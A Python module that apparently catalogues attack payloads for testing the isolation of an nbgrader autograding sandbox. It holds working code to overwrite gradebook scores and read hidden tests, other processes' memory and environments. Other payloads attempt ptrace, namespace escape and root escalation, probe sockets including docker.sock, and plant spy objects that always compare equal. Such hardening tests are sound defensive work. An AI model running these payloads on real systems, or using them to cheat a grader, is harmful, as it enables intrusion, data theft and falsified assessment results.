"""Attacks that look for keys: in files, frames, memory, environment, other processes, on the network."""

from .attack import Attack, code

READING: dict[str, Attack] = {
    "gradebook": code(
        "Open the gradebook where nbgrader's working directory has it, read the tests and set every score.",
        "import sqlite3, glob\nfor path in ['../../../gradebook.db', 'gradebook.db', '/gradebook.db', *glob.glob('/*/*.db')]:\n"
        "    try:\n        with open(path, 'rb') as file: loot(file.read())\n        sqlite3.connect(path).execute('update grade set auto_score = 2')\n"
        "    except Exception as error: loot(error)",
    ),
    "source": code(
        "Read the instructor's notebook with the tests from source/, up and down the tree.",
        "import glob\nfor up in range(8):\n    for path in glob.glob('../' * up + 'source/**', recursive=True) + glob.glob('../' * up + '*.ipynb'):\n"
        "        try: loot(path, open(path).read())\n        except OSError: pass",
    ),
    "own-notebook": code(
        "Read the notebook in the working directory, into which nbgrader has put the hidden tests.",
        "import glob\nfor path in glob.glob('**', recursive=True): loot(path, open(path, errors='replace').read())",
    ),
    "walk": code(
        "Walk the whole disk and keep every small file that speaks of keys.",
        "for top, folders, files in os.walk('/'):\n    if top.startswith(('/usr', '/proc', '/lib', '/bin')) or 'packages' in top or '/lib/' in top:\n        folders[:] = []\n        continue\n"
        "    for name in files:\n        try: text = open(os.path.join(top, name), errors='replace').read(100000)\n        except OSError: continue\n"
        "        if 'HIDDEN' in text or 'hoar' + 'frost' in text: loot(top, name, text)",
    ),
    "frames": code(
        "Climb the stack and search every local and global name above the cell.",
        "frame = sys._getframe()\nwhile frame:\n    loot(list(frame.f_locals.items()), list(frame.f_globals)[:200])\n    frame = frame.f_back",
    ),
    "garbage": code(
        "Go through all objects that Python knows and keep texts that look like tests.",
        "import gc\nfor one in gc.get_objects():\n    if type(one) in (list, tuple, dict):\n        for text in (one.values() if type(one) is dict else one):\n"
        "            if type(text) is str and ('assert_frame' + '_equal(table' in text or 'hoar' + 'frost' in text): loot(text)",
    ),
    "memory": code(
        "Read the memory of its own process byte by byte.",
        "needle = b'hoarfrost' + b'-73'\nfor line in open('/proc/self/maps'):\n    span, rights = line.split()[:2]\n    if rights[0] == 'r':\n"
        "        low, high = (int(end, 16) for end in span.split('-'))\n        try:\n            with open('/proc/self/mem', 'rb') as file:\n                file.seek(low); data = file.read(min(high - low, 1 << 24))\n"
        "        except (OSError, OverflowError, ValueError): continue\n        at = data.find(needle + b'19')\n        if at >= 0: loot(data[at - 50:at + 50])",
    ),
    "environment": code(
        "Look for paths and tokens in its own and its parents' environment and command lines.",
        "loot(dict(os.environ))\nfor pid in ['self', '1', str(os.getppid()), *filter(str.isdigit, os.listdir('/proc'))]:\n"
        "    for what in ('environ', 'cmdline', 'cwd', 'root', 'exe'):\n        try: loot(open(f'/proc/{pid}/{what}').read() if what[0] in 'e' else os.readlink(f'/proc/{pid}/{what}'))\n        except OSError: pass",
    ),
    "others": code(
        "List all processes and read the memory and open files of others.",
        "for pid in filter(str.isdigit, os.listdir('/proc')):\n    if int(pid) == os.getpid(): continue\n    loot('OTHER PROCESS', pid)\n    for what in ('mem', 'maps', 'environ', 'stack', 'status'):\n"
        "        try: loot('SEEN', open(f'/proc/{pid}/{what}', 'rb').read(1000))\n        except OSError: pass\n    try:\n        for fd in os.listdir(f'/proc/{pid}/fd'): loot(open(f'/proc/{pid}/fd/{fd}', 'rb').read(1000))\n    except OSError: pass",
    ),
    "ptrace": code(
        "Attach to other processes, or copy their memory with process_vm_readv and pidfd_getfd.",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfor pid in range(1, 400):\n    if pid == os.getpid(): continue\n    if libc.ptrace(16, pid, 0, 0) == 0: loot('ATTACHED', pid)\n"
        "    data = ctypes.create_string_buffer(64)\n    vec = (ctypes.c_ulong * 2)(ctypes.addressof(data), 64)\n    if libc.process_vm_readv(pid, vec, 1, vec, 1, 0) > 0: loot('COPIED', pid)\n"
        "    fd = libc.syscall(434, pid, 0)\n    if fd >= 0 and libc.syscall(438, fd, 3, 0) >= 0: loot('TAKEN', pid)",
    ),
    "namespaces": code(
        "Make namespaces of its own, join others', mount and change root to get at the machine's files.",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfor flag in (0x10000000, 0x20000, 0x20000000, 0x40000000):\n    if libc.unshare(flag) == 0: loot('UNSHARED', hex(flag))\n"
        "for name in ('mnt', 'net', 'pid', 'user'):\n    try:\n        if libc.setns(os.open(f'/proc/1/ns/{name}', 0), 0) == 0: loot('JOINED', name)\n    except OSError: pass\n"
        "if libc.mount(b'proc', b'/box', b'proc', 0, None) == 0 or libc.chroot(b'/') == 0 or libc.umount2(b'/box', 2) == 0: loot('MOUNTED')",
    ),
    "setuid": code(
        "Become root, by a call or by a program that has the right, and take away its own limits.",
        "import resource, subprocess\nfor do in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: resource.setrlimit(resource.RLIMIT_NPROC, (9999, 9999)), lambda: os.nice(-10)):\n"
        "    try: do(); loot('RIGHTS GAINED')\n    except (OSError, ValueError): pass\nfor program in (['su', '-c', 'id'], ['sudo', '-n', 'id'], ['mount'], ['newgrp']):\n"
        "    try:\n        if 'uid=0' in subprocess.run(program, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=1).stdout: loot('RIGHTS GAINED')\n    except Exception: pass",
    ),
    "network": code(
        "Send what it has over the network, and ask the machine's own services.",
        "import socket\nfor address in (('127.0.0.1', 22), ('127.0.0.1', 8888), ('10.0.0.1', 53), ('1.1.1.1', 53), ('::1', 80)):\n    try:\n        with socket.create_connection(address, 0.2): loot('CONNECTED', address)\n    except OSError as error: loot(type(error).__name__)\n"
        "try:\n    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line: loot('CONNECTED' if line.sendto(b'x', ('127.0.0.1', 9)) else '')\nexcept OSError: pass",
    ),
    "sockets": code(
        "Find Unix sockets, abstract ones too, and connect to whoever listens.",
        "import socket\ntry: names = [line.split()[-1] for line in open('/proc/net/unix')][1:]\nexcept OSError: names = []\nfor name in [*names, '@/tmp/dbus', '/run/dbus/system_bus_socket', '/var/run/docker.sock', '@GATE']:\n"
        "    with socket.socket(socket.AF_UNIX) as line:\n        try: line.connect('\\0' + name[1:] if name[0] == '@' else name); loot('CONNECTED', name)\n        except OSError: pass",
    ),
    "listen": code(
        "Open a gate, an abstract Unix socket, at which a friend's notebook can hand over answers.",
        "import socket\ngate = socket.socket(socket.AF_UNIX)\ntry:\n    gate.bind('\\0GATE'); gate.listen(); gate.settimeout(0.4); gate.accept(); loot('CONNECTED')\nexcept OSError as error: loot(type(error).__name__)",
    ),
    "dead-drop": code(
        "Leave notes for a friend's notebook in every folder that can be written to, and look for a friend's.",
        "mine = f'drop-{time.time_ns()}'\nfor top in ('/tmp', '/var/tmp', '/dev/shm', '/box', '/box/warm', '/box/tmp', '..', '/run', '/'):\n    try:\n        for name in os.listdir(top):\n            if name.startswith('drop-') and name != mine: loot('FRIEND', top, name)\n"
        "        open(f'{top}/{mine}', 'w').write('hello')\n    except OSError: pass",
    ),
    "dead-drop-friend": code(
        "Look for the notes that the one before has left.",
        "for top in ('/tmp', '/var/tmp', '/dev/shm', '/box', '/box/warm', '/box/tmp', '..', '/run', '/'):\n    try: loot(*['FRIEND' + name for name in os.listdir(top) if name.startswith('drop-')])\n    except OSError: pass",
    ),
    "descriptors": code(
        "Read and write on every open file descriptor that it inherited.",
        "import socket\nfor fd in range(3, 400):\n    try: link = os.readlink(f'/proc/self/fd/{fd}')\n    except OSError: continue\n    loot(fd, link)\n    if 'socket' not in link:\n        try: loot(os.pread(fd, 100000, 0))\n        except OSError: pass",
    ),
    "peek": code(
        "Peek at what lies unread on the grader's line.",
        "import socket\nfor fd in range(3, 400):\n    try:\n        line = socket.socket(fileno=os.dup(fd)); line.settimeout(0.05)\n        loot(line.recv(100000, socket.MSG_PEEK)); line.close()\n    except OSError: pass",
    ),
    "package": code(
        "Read marking code and keys from the installed package, and import the grader.",
        "import importlib\nfor name in ('memo1949.grading.keys', 'memo1949.grading.grader.submission', 'memo1949.grading.secrets'):\n    try: loot({key: value for key, value in vars(importlib.import_module(name)).items() if isinstance(value, (list, dict))})\n    except BaseException as error: loot(error)\n"
        "try:\n    from nbgrader.api import Gradebook\n    loot([cell.source for cell in Gradebook('sqlite:///../../../gradebook.db').find_assignment('vault').notebooks[0].source_cells])\nexcept BaseException as error: loot(type(error))",
    ),
    "function-spies": code(
        "Let the functions that tests call climb the stack for the rest of the test.",
        "pass",
        double="def double(x):\n    import sys, gc\n    frame = sys._getframe()\n    while frame:\n        loot([value for value in frame.f_locals.values() if type(value) in (str, list, dict)])\n        frame = frame.f_back\n    return x",
    ),
    "comparing-spies": code(
        "Answer with an object that writes down whatever it is compared with.",
        "class Spy:\n    def __eq__(self, other): loot('SPIED', other); return True\n    def startswith(self, start): loot('SPIED', start); return True\n    def __contains__(self, part): loot('SPIED', part); return True\n"
        "    def __getitem__(self, at): return self\n    def __add__(self, other): return self\n    def __len__(self): return 13\n    def __hash__(self): return 1",
        answer="answer = Spy()",
        says="compared",
    ),
    "module-spies": code(
        "Answer with an object that calls itself a module, so that its functions are called with what is expected.",
        "class module:\n    def __getattr__(self, name): return lambda *args, **kwargs: (loot('SPIED', args), True)[1]\n    def __contains__(self, part): loot('SPIED', part); return True\n    def __iter__(self): return iter([])\n    def __call__(self, *args): loot('SPIED', args); return self",
        answer="answer = module()",
        says="compared",
    ),
}
